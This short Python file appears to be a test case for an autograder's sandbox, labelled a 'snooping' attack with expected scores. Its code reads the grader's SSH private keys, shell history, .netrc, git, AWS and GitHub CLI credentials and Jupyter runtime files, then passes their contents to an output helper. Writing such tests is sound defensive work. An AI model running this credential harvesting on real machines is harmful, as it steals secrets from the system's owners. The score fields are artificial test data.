"""Reads the grader's home: ssh keys, histories, netrc, cloud and git credentials.

Attack: snooping
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import os
# use: reading

_names = (".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/known_hosts", ".bash_history", ".bashrc", ".netrc", ".gitconfig", ".git-credentials",
          ".aws/credentials", ".config/gh/hosts.yml", ".jupyter/jupyter_notebook_config.json", ".local/share/jupyter/runtime")
_tell([_read(f"@HOME@/{name}", 60) for name in _names])
